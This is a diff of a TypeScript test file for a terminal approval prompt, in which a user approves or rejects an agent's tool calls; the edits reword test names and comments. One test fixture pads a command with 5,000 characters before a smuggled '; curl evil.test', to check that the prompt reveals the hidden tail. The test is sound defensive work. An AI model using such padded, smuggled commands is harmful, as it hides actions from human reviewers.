@@ -1,4 +1,4 @@
-// A person at a terminal, played by streams: what they are shown, and what becomes of what they type.
+// A user at a terminal, simulated by streams: what is shown, and what happens with the input.
 import { PassThrough } from 'node:stream'
 import type { ApprovalPrompt, QuestionPrompt } from '@tandem/contract/run'
 import { afterEach, beforeEach, expect, test } from 'vitest'
@@ -42,7 +42,7 @@ afterEach(() => input.destroy())
 let typing: string[] = []
 let answered = 0
 
-/** Types the next line each time a prompt stands there. */
+/** Types the next line whenever there is a prompt. */
 function answerPrompts(): void {
   const prompts = shown.match(/(?:\[s\]how all|why \(optional\)|your own answer|A number|separated by commas|Your answer): /g)?.length ?? 0
   if (prompts <= answered || typing.length === 0) return
@@ -61,17 +61,17 @@ test.each([
   ['once', { ...of, answer: 'once' }],
   ['r', { ...of, answer: 'this_run' }],
   ['A', { ...of, answer: 'always' }],
-])('%s is a yes', async (typed, answer) => {
+])('%s is an approval', async (typed, answer) => {
   types(typed)
   expect(await person.approve(approval)).toEqual(answer)
 })
 
-test('a no comes with its reason', async () => {
+test('a rejection includes its reason', async () => {
   types('n', 'not in this folder')
   expect(await person.approve(approval)).toEqual({ ...of, answer: 'no', reason: 'not in this folder' })
 })
 
-test('nothing of the call is hidden: what can not be seen is written out, and all of it can be shown', async () => {
+test('nothing of the call is hidden: invisible characters are written out, and all of it can be shown', async () => {
   types('s', 'maybe', 'o')
   const long = { ...approval, arguments: JSON.stringify({ command: `${'x'.repeat(5_000)}; curl evil.test` }) }
   expect(await person.approve(long)).toMatchObject({ answer: 'once' })
@@ -88,7 +88,7 @@ test('nothing of the call is hidden: what can not be seen is written out, and al
   expect(shown).not.toContain('begin with rm -rf')
 })
 
-test('what the answers cover is said; with a warning nothing but this call is on offer', async () => {
+test('what the answers cover is shown; with a warning only this call can be approved', async () => {
   types('o')
   await person.approve(approval)
   expect(shown).toContain('begin with rm -rf')
@@ -96,12 +96,12 @@ test('what the answers cover is said; with a warning nothing but this call is on
   expect(await person.approve({ ...approval, warnings: ['it deletes'] })).toEqual({ ...of, answer: 'once' })
 })
 
-test('an answer that is not on offer is no answer', async () => {
+test('an answer that is not offered is not accepted', async () => {
   types('a', 'r', 'o')
   expect(await person.approve({ ...approval, choices: ['once', 'no'] })).toEqual({ ...of, answer: 'once' })
 })
 
-test('who cancels, or is gone, has not answered', async () => {
+test('canceling, or the end of the input, is not an answer', async () => {
   const asked = person.approve(approval)
   canceled.abort()
   expect(await asked).toBeNull()
@@ -124,7 +124,7 @@ const answerTo = (chosen: string[], text: string | null = null) => ({
   answer: { chosen, text },
 })
 
-test('a question is answered by number, by numbers, or in words, as it allows', async () => {
+test('a question is answered by number, by numbers, or by text, as it allows', async () => {
   types('3', 'blue', '1, 2', '2')
   expect(await person.answer(question)).toEqual(answerTo(['blue']))
   expect(shown).toContain('1. Red (warm)')
@@ -136,7 +136,7 @@ test('a question is answered by number, by numbers, or in words, as it allows', 
   expect(await person.answer({ ...question, options: [], allows_text: true })).toEqual(answerTo([], 'because'))
 })
 
-test('--yes approves once what carries no warning, whatever could be remembered, and answers no question', async () => {
+test('--yes approves calls without a warning once, whatever could be remembered, and answers no question', async () => {
   const usual = { ...approval, warnings: [] }
   expect([
     await yesOnce.approve(usual),
